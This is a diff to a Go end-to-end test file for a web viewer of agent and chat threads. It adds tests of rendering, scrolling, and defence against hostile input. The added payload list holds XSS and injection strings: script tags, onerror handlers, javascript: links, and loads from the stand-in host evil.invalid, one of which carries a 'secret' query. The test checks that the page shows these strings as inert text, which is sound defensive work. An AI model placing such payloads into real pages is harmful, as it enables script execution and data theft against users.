@@ -8,6 +8,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"syscall"
 	"testing"
@@ -309,4 +310,202 @@ func TestFullPageShare(t *testing.T) {
 		b.Go(link)
 		b.Wait(shows("#status", "this link was revoked"))
 	})
+}
+
+// chat is a chat with an id and a text.
+func chat(id, text string) string {
+	return fmt.Sprintf(`{"id":%q,"ts":%q,"payload":{"type":"chat","text":%q}}`, id, thread.Stamp(time.Now()), text)
+}
+
+// The recorded threads are shown, each from its first to its last entry.
+func TestFullPageRecorded(t *testing.T) {
+	h := newHost(t)
+	files, err := filepath.Glob("../../../testdata/threads/*.ndjson")
+	if err != nil || len(files) < 5 {
+		t.Fatalf("%d threads, %v", len(files), err)
+	}
+	b := h.login(t)
+	b.Size(1000, 700, false)
+	for _, file := range files {
+		id := strings.TrimSuffix(filepath.Base(file), ".ndjson")
+		h.run("", "thread", "import", id, file)
+		b.Go(h.url() + "/t/" + id)
+		b.Wait("document.readyState === 'complete' && document.querySelector('#items .piece')")
+		if n := browser.Eval[int](b, "new Set([...document.querySelectorAll('#items article')].map(e => e.id)).size -"+
+			"document.querySelectorAll('#items article').length"); n != 0 {
+			t.Errorf("%s has %d ids twice", id, -n)
+		}
+		shot(t, b, "thread-"+id)
+	}
+	h.post("parser", begin("r1", "Make the parser accept trailing commas", "")...)
+	h.post("tests", begin("r2", "Write tests for trailing commas", `,"parent":{"threadId":"parser","authorId":"a"}`)...)
+	h.post("parser", fmt.Sprintf(`{"id":"pi:s:1.1","ts":%q,"payload":{"type":"pi.assistant","model":"scripted-1",`+
+		`"session":{"id":"s","entry":"e1","index":1},"message":{"role":"assistant","content":[`+
+		`{"type":"thinking","thinking":"The list ends in **next**."},`+
+		`{"type":"text","text":"I change `+"`list`"+` so that it stops at a bracket:\n\n- after a comma\n- at the start"},`+
+		`{"type":"toolCall","id":"c1","name":"edit","arguments":{"path":"parse/list.go",`+
+		`"oldText":"for {\n\tnext()\n}","newText":"for peek() != ']' {\n\tnext()\n}"}}]}}}`,
+		thread.Stamp(time.Now())))
+	b.Go(h.url() + "/t/parser")
+	b.Wait("document.querySelector('#items .diff')")
+	b.Run("document.querySelectorAll('#items details').forEach(d => d.open = true)")
+	shot(t, b, "thread-diff")
+	b.Go(h.url() + "/")
+	b.Wait("document.querySelector('#t-parser > ul > #t-tests')")
+	shot(t, b, "list")
+	b.Dark()
+	shot(t, b, "list-dark")
+	b.Size(390, 844, true)
+	shot(t, b, "list-phone")
+	b.Go(h.url() + "/t/pushed")
+	b.Wait("document.querySelector('#items article')")
+	shot(t, b, "thread-phone")
+}
+
+// shot writes a picture of the page into the folder $ARBE_SHOTS, where that is set.
+func shot(t *testing.T, b *browser.Tab, name string) {
+	t.Helper()
+	if dir := os.Getenv("ARBE_SHOTS"); dir != "" {
+		b.Shot(filepath.Join(dir, name+".png"))
+	}
+}
+
+// A long thread opens at its end. Older entries come when the reader scrolls up, and what is read stays where it is;
+// live items come at the end, and move nothing for a reader who is elsewhere.
+func TestFullPageLong(t *testing.T) {
+	engines(t, func(t *testing.T, h *host) {
+		const n = 2500
+		for from := 0; from < n; from += 500 {
+			var some []string
+			for i := from; i < from+500; i++ {
+				some = append(some, chat(fmt.Sprint("c", i), fmt.Sprintf("chat %d end\n\nand a second paragraph", i)))
+			}
+			h.post("long", some...)
+		}
+		b := h.login(t, "long")
+		b.Wait(shows("#items .chat", fmt.Sprintf("chat %d end", n-1)))
+		at := func(id string) string {
+			return fmt.Sprintf("document.getElementById('i-%s').getBoundingClientRect().top", id)
+		}
+		b.Wait(at(fmt.Sprint("c", n-1)) + " < innerHeight")
+		if got := browser.Eval[int](b, "document.querySelectorAll('#items .chat').length"); got > 1200 {
+			t.Errorf("%d entries at first", got)
+		}
+		h.post("long", chat("live1", "a live chat"))
+		b.Wait(shows("#i-live1", "a live chat"))
+		b.Wait(at("live1") + " < innerHeight") // the reader follows
+		for browser.Eval[bool](b, "!document.getElementById('i-c0')") {
+			first := browser.Eval[string](b, "document.querySelector('#items .chat').id.slice(2)")
+			b.Run("document.querySelector('#items .chat').scrollIntoView()")
+			b.Wait("document.querySelector('#items .chat').id !== 'i-" + first + "'")
+			if top := browser.Eval[float64](b, at(first)); top < -50 || top > 2000 {
+				t.Fatalf("%s was moved to %v", first, top)
+			}
+		}
+		b.Wait("!document.querySelector('.older')")
+		ids := browser.Eval[string](b,
+			"[...document.querySelectorAll('#items .chat')].map(e => e.id.slice(2)).join(' ')")
+		var want []string
+		for i := range n {
+			want = append(want, fmt.Sprint("c", i))
+		}
+		if got := strings.Fields(ids); !slices.Equal(got, append(want, "live1")) {
+			t.Errorf("%d entries, want %d", len(got), n+1)
+		}
+		b.Run("document.getElementById('i-c100').scrollIntoView()")
+		b.Wait("Math.abs(" + at("c100") + ") < 50")
+		was := browser.Eval[float64](b, at("c100"))
+		h.post("long", chat("live2", "another"))
+		b.Wait("document.getElementById('i-live2') && !document.getElementById('new').hidden")
+		if now := browser.Eval[float64](b, at("c100")); now-was > 5 || was-now > 5 {
+			t.Errorf("a live entry moved what is read from %v to %v", was, now)
+		}
+		b.Click("#new")
+		b.Wait(at("live2") + " < innerHeight")
+	})
+}
+
+// payloads are texts that attack a page.
+var payloads = []string{
+	`<script>alert(1)</script>`,
+	`<img src=x onerror=alert(1)>`,
+	`"><svg onload=alert(1)>`,
+	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, "[x](java\tscript:alert(1))", "[x](\x01javascript:alert(1))",
+	`[x](data:text/html,<script>alert(1)</script>)`, `<javascript:alert(1)>`,
+	`![x](https://evil.invalid/?q=secret)`, `![x](" onerror="alert(1))`, `![](//evil.invalid/x.png)`,
+	`<a href="javascript:alert(1)">x</a>`, `<iframe src="https://evil.invalid"></iframe>`,
+	`<style>@import "https://evil.invalid/x.css"</style>`, `<link rel=stylesheet href=https://evil.invalid/x.css>`,
+	`<base href="https://evil.invalid/">`, `<meta http-equiv=refresh content="0; url=https://evil.invalid">`,
+	`<form action=https://evil.invalid><button autofocus onfocus=alert(1)>`, `{{.}} ${alert(1)} </article></section>`,
+	"| a |\n|:-:|\n| <img src=x onerror=alert(1)> |", "```html\n<script>alert(1)</script>\n```", "\u202etxt.exe\u202c",
+	"</textarea></title></style></script><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->",
+	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+	"\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
+	"\x1b[31m<b onmouseover=alert(1)>red</b>\x1b[0m",
+}
+
+// Whatever an agent, a tool or another writer posts, in any field, the page shows it as text: nothing runs, nothing is
+// asked of another server, the policy is not even tried.
+func TestFullPageHostile(t *testing.T) {
+	h := newHost(t)
+	q := func(s string) string { return string(thread.Marshal(s)) }
+	var entries []string
+	for i, p := range payloads {
+		run := fmt.Sprint("r", i)
+		line := func(n int, kind, payload string) string {
+			return fmt.Sprintf(`{"id":"pi:s:%d.%d","ts":%q,"payload":{"type":%q,"session":{"id":"s","entry":"e%d.%d","index":%d}%s}}`,
+				i, n, thread.Stamp(time.Now()), kind, i, n, 10*i+n, payload)
+		}
+		entries = append(entries,
+			fmt.Sprintf(`{"id":"c%d","ts":%q,"authorId":%s,"payload":{"type":"chat","text":%s}}`,
+				i, thread.Stamp(time.Now()), q(strings.Map(noControl, p)), q(p)),
+			signal(run, "running", thread.TypeStatus, `,"status":"running"`),
+			signal(run, "started", thread.TypeStarted, fmt.Sprintf(`,"agentVersion":%[1]s,"cwd":%[1]s,"resume":"none"`, q(p))),
+			line(1, "pi.assistant", fmt.Sprintf(`,"model":%[1]s,"provider":%[1]s,"stopReason":"toolUse","message":{"role":"assistant",`+
+				`"model":%[1]s,"content":[{"type":"text","text":%[1]s},{"type":"thinking","thinking":%[1]s},`+
+				`{"type":"toolCall","id":"call%[2]d","name":%[1]s,"arguments":{"command":%[1]s,"path":%[1]s,%[1]s:%[1]s}},`+
+				`{"type":"toolCall","id":"edit%[2]d","name":"edit","arguments":{"path":%[1]s,"oldText":%[1]s,"newText":"x"}}]}`, q(p), i)),
+			line(2, "pi.tool_result", fmt.Sprintf(`,"toolCallId":"call%[2]d","toolName":%[1]s,"isError":true,"message":{"role":"toolResult",`+
+				`"toolCallId":"call%[2]d","toolName":%[1]s,"content":[{"type":"text","text":%[1]s},`+
+				`{"type":"image","data":%[3]s,"mimeType":%[1]s}]}`, q(p), i, q("PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"))),
+			line(3, "pi.tool_result", fmt.Sprintf(`,"toolCallId":"none%[2]d","toolName":%[1]s,"message":{"role":"toolResult",`+
+				`"toolCallId":"none%[2]d","toolName":%[1]s,"content":[{"type":"text","text":%[1]s}]}`, q(p), i)),
+			signal(run, "end.0", thread.TypeFailed, fmt.Sprintf(`,"errorClass":%[1]s,"message":%[1]s,"stderrTail":%[1]s`, q(p))),
+		)
+	}
+	h.post("evil", entries...)
+	b := h.login(t, "evil")
+	b.Wait("document.querySelectorAll('#items .verdict').length > 5")
+	for browser.Eval[bool](b, "!!document.querySelector('.older')") {
+		first := browser.Eval[string](b, "document.querySelector('#items article').id")
+		b.Run("document.querySelector('#items article').scrollIntoView()")
+		b.Wait("document.querySelector('#items article').id !== " + string(thread.Marshal(first)))
+	}
+	if n := browser.Eval[int](b, "document.querySelectorAll('#items .verdict').length"); n != len(payloads) {
+		t.Errorf("%d runs, want %d", n, len(payloads))
+	}
+	b.Run("document.querySelectorAll('details').forEach(d => d.open = true)")
+	for what, css := range map[string]string{
+		"an element of a text": "#items :is(script, iframe, svg, style, link, base, meta, form, noscript, object)",
+		"an image elsewhere":   "img:not([src^='/t/evil/image/'])",
+		"an address":           "#items a:not([href^='/'], [href^='#'], [href^='http'], [href^='mailto:'])",
+		"a handler":            "[onerror], [onload], [onfocus], [onmouseover], [style]",
+	} {
+		if got := browser.Eval[string](b, fmt.Sprintf(
+			"[...document.querySelectorAll(%q)].map(e => e.outerHTML).join('\\n')", css)); got != "" {
+			t.Errorf("%s: %.500s", what, got)
+		}
+	}
+	h.post("evil", strings.ReplaceAll(entries[0], `"c0"`, `"live"`)) // the way of live items
+	b.Wait("document.getElementById('i-live')")
+	b.Go(h.url() + "/")
+	b.Wait("document.getElementById('t-evil')")
+}
+
+// noControl drops what an author can't have.
+func noControl(r rune) rune {
+	if r < ' ' || r == 0x7f {
+		return -1
+	}
+	return r
 }
